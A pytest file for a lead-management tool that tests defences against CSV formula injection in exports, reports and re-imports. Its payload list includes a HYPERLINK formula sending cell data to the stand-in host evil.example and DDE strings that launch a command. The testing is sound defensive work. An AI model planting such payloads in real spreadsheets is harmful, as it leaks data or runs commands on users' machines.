"""CSV for spreadsheets: no cell of an export or a report opens as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
import json

import pytest

from leadtui.context import Context
from leadtui.db.connection import close_db, init_db
from leadtui.interop.export import CSV_COLUMNS
from leadtui.kit.safecsv import neutral
from leadtui.leads import writes as leads

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert neutral(payload) == "'" + payload


@pytest.mark.parametrize("value", ["", "Jane", "-5", "+358 40 1234567", "+1 (555) 123-4567", "12.5", "a=b",
                                   "Acme - Oy"])
def test_plain_values_and_numbers_stay_as_they_are(value):
    assert neutral(value) == value


def _cells(text: str, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def _hostile_lead(cli, clock, config) -> None:
    """A lead whose every text field is a formula, in the database the CLI commands use."""
    init_db(cli.db)
    leads.add_lead(Context(clock=clock, config=config), leads.NewLead(
        PAYLOADS[0], company=PAYLOADS[1], title=PAYLOADS[2], source=PAYLOADS[3], industry=PAYLOADS[4],
        location="=1+1", interest="@x", owner="-me", tags=["=tag", "+t"], phone="+358 40 1234567"), force=True)
    close_db()


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_every_column_of_a_csv_export_is_safe(cli, clock, config, delimiter, tmp_path):
    _hostile_lead(cli, clock, config)
    code, out, err = cli("export", "--format", "csv", "--delimiter", delimiter)
    assert code == 0, err
    written = tmp_path / "out.csv"
    assert cli("export", "--format", "csv", "--delimiter", delimiter, "-o", str(written))[0] == 0
    for text in (out, written.read_text(encoding="utf-8-sig")):
        (row,) = _cells(text, delimiter)
        assert set(row) == set(CSV_COLUMNS)
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "+358 40 1234567", column
        assert row["name"] == "'" + PAYLOADS[0] and row["tags"] == "'+t, =tag"
        assert row["phone"] == "+358 40 1234567"


def test_report_csv_is_safe(cli, clock, config):
    _hostile_lead(cli, clock, config)
    code, out, err = cli("report", "sources", "--format", "csv")
    assert code == 0, err
    sources = [row["source"] for row in _cells(out)]
    assert "'" + PAYLOADS[3].lower() in sources  # sources are kept in lower case


def test_the_tuis_export_is_safe_too(ctx, tmp_path):
    """The palette's "Export leads" writes through export_to_file."""
    from leadtui.interop.export import export_to_file

    leads.add_lead(ctx, leads.NewLead(PAYLOADS[0], company=PAYLOADS[1]), force=True)
    _, path = export_to_file(ctx, "csv", tmp_path / "out.csv")
    (row,) = _cells(path.read_text(encoding="utf-8-sig"), ",")
    assert row["name"] == "'" + PAYLOADS[0] and row["company"] == "'" + PAYLOADS[1]


def test_a_csv_export_imports_back_as_it_was(cli, clock, config, tmp_path):
    """The ' that keeps a spreadsheet from running a cell is taken off again on import."""
    _hostile_lead(cli, clock, config)
    path = tmp_path / "out.csv"
    assert cli("export", "--format", "csv", "--delimiter", ",", "-o", str(path))[0] == 0
    assert cli("delete", "1", "--yes")[0] == 0
    code, _, err = cli("import", str(path))
    assert code == 0, err
    code, out, _ = cli("--format", "json", "list")
    (lead,) = json.loads(out)
    assert (lead["name"], lead["company"]) == (PAYLOADS[0], PAYLOADS[1])


def test_a_cell_that_only_starts_with_a_quote_is_kept():
    from leadtui.kit.safecsv import unneutral

    assert [unneutral(v) for v in ("'quoted'", "'", "'-5", "O'Brien", "'=x")] == ["'quoted'", "'", "'-5",
                                                                               "O'Brien", "=x"]
